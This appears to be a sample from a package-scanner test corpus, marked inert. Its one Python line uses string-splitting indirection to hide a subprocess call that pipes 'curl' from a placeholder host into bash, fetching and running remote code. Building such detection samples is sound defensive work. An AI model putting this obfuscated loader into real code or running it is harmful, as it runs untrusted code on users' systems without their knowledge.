# pkgguard corpus 026 (indirection), modelled on [obfuscation]; inert, never run.
getattr(__import__("subprocess"), "Po" + "pen")(["bash", "-c", "curl -s https://cdn.example/r | bash"])
